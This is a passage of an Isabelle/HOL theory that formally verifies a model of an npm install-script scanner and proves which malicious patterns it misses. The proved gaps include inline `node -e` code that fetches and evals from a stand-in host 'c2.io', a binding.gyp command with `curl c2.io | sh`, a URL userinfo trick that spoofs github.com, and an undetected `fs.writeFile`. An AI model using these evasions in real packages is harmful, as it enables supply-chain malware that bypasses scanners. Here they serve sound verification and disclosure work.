  by (induction fs dir seen ref exts rule: entry_file.induct) (auto simp: Let_def split: if_splits)

lemma entry_files_inside: "(ref, target) \<in> set (entry_files fs dir seen refs) \<Longrightarrow> inside dir target"
  by (induction fs dir seen refs rule: entry_files.induct)
    (auto simp: Let_def split: option.splits dest: entry_file_inside)

lemma same_segment: "pf_is_file fs = pf_is_file fs' \<Longrightarrow> segment_target fs dir = segment_target fs' dir"
proof (rule ext)
  assume f: "pf_is_file fs = pf_is_file fs'"
  show "segment_target fs dir seg = segment_target fs' dir seg" for seg unfolding segment_target_def f by (rule refl)
qed

lemma same_executed: "pf_is_file fs = pf_is_file fs' \<Longrightarrow> executed_local_targets fs dir = executed_local_targets fs' dir"
  by (rule ext) (simp add: executed_local_targets_def same_segment [of fs fs'])

lemma same_followed: "pf_is_file fs = pf_is_file fs' \<Longrightarrow> followed fs dir = followed fs' dir"
proof -
  assume f: "pf_is_file fs = pf_is_file fs'"
  have "interp_target fs dir = interp_target fs' dir" by (rule ext) (simp add: interp_target_def f)
  then show ?thesis by (intro ext) (simp add: followed_def f)
qed

lemma same_entry_file: "pf_is_file fs = pf_is_file fs' \<Longrightarrow> entry_file fs dir seen ref exts = entry_file fs' dir seen ref exts"
  by (induction fs dir seen ref exts rule: entry_file.induct) (simp_all add: Let_def)

lemma same_entry_files: "pf_is_file fs = pf_is_file fs' \<Longrightarrow> entry_files fs dir seen refs = entry_files fs' dir seen refs"
proof (induction fs dir seen refs rule: entry_files.induct)
  case (2 fs dir seen ref refs)
  then show ?case using same_entry_file [of fs fs' dir seen _ entry_exts] by (auto simp: Let_def split: option.split)
qed simp

lemma concat_map_cong: "(\<And>x. x \<in> set xs \<Longrightarrow> f x = g x) \<Longrightarrow> concat (map f xs) = concat (map g xs)"
  by (metis map_cong)

lemma same_analyses:
  assumes "same_inside dir fs fs'"
  shows "bundled_exec fs dir hook script pre = bundled_exec fs' dir hook script pre"
    "referenced_js fs dir script pre declared = referenced_js fs' dir script pre declared"
    "runtime_entrypoints limit fs data dir pre = runtime_entrypoints limit fs' data dir pre"
proof -
  have f: "pf_is_file fs = pf_is_file fs'" and r: "\<And>p. inside dir p \<Longrightarrow> pf_read fs p = pf_read fs' p"
    using assms by (simp_all add: same_inside_def)
  show "bundled_exec fs dir hook script pre = bundled_exec fs' dir hook script pre"
    unfolding bundled_exec_def same_executed [OF f] by (rule concat_map_cong) (auto simp: r dest: executed_inside)
  show "referenced_js fs dir script pre declared = referenced_js fs' dir script pre declared"
    unfolding referenced_js_def same_followed [OF f] by (rule concat_map_cong) (auto simp: r dest: followed_inside)
  show "runtime_entrypoints limit fs data dir pre = runtime_entrypoints limit fs' data dir pre"
    unfolding runtime_entrypoints_def same_entry_files [OF f] by (rule concat_map_cong) (auto simp: Let_def r dest: entry_files_inside cong: if_cong)
qed

lemma same_manifest:
  assumes "same_inside dir fs fs'"
  shows "analyze_manifest e fs base dir = analyze_manifest e fs' base dir"
proof -
  have "pf_read fs (dir @ [''package.json'']) = pf_read fs' (dir @ [''package.json''])" using assms by (simp add: same_inside_def)
  then show ?thesis unfolding analyze_manifest_def same_analyses [OF assms] by simp
qed


definition demo_pkg_fs :: "string \<Rightarrow> package_fs" where
  "demo_pkg_fs secret = \<lparr>
     pf_is_file = (\<lambda>p. p \<in> {[''tmp'', ''x'', ''package.json''], [''etc'', ''setup.js'']}),
     pf_read = (\<lambda>p. if p = [''tmp'', ''x'', ''package.json''] then Some ''manifest'' else if p = [''etc'', ''setup.js''] then Some secret else None),
     pf_subdirs = []\<rparr>"

definition demo_inst_env :: inst_env where
  "demo_inst_env = \<lparr>ie_tools = [], ie_loads = (\<lambda>s. Some (JObj [(''scripts'', JObj [(''install'', JStr ''node ../../etc/setup'')])])),
     ie_show = (\<lambda>j. []), ie_limit = 600\<rparr>"


section \<open>What slips past\<close>

text \<open>Inline code of an interpreter is on no list of shells or fetchers once its leading word is on the list of tools.\<close>

definition demo_inline :: string where
  "demo_inline = ''node -e '' @ [CHR 0x22] @ ''fetch('' @ [CHR 0x27] @ ''http://c2.io'' @ [CHR 0x27] @ '').then(eval)'' @ [CHR 0x22]"

lemma inline_code_benign: "is_benign_script [] demo_inline" "analyze_script [] ''postinstall'' demo_inline ''package.json'' = []"
proof -
  show b: "is_benign_script [] demo_inline" by code_simp
  show "analyze_script [] ''postinstall'' demo_inline ''package.json'' = []" using b by (simp add: analyze_script_def)
qed

text \<open>A closing parenthesis inside a command of \<^verbatim>\<open>binding.gyp\<close> ends what is looked at: the download after it goes unreported.\<close>

definition demo_gyp :: string where
  "demo_gyp = ''<!(node -p '' @ [CHR 0x22] @ ''require(1)'' @ [CHR 0x22] @ '' && curl c2.io | sh)''"

lemma nested_parenthesis_hides: "binding_gyp_findings demo_gyp ''binding.gyp'' = []"
  by code_simp

text \<open>A user name before the host of a URL is taken for the host.\<close>

lemma user_info_is_host: "url_hosts ''https://github.com@c2.io/'' = [''github.com'']" "host_trusted ''github.com'' []"
  by code_simp+

text \<open>The pattern of a write to disk has the letter c optional and not the word Sync: \<^verbatim>\<open>fs.writeFile\<close> is none.\<close>

lemma write_file_missed: "\<not> re_found js_write ''fs.writeFile(p)''"
  by code_simp

end
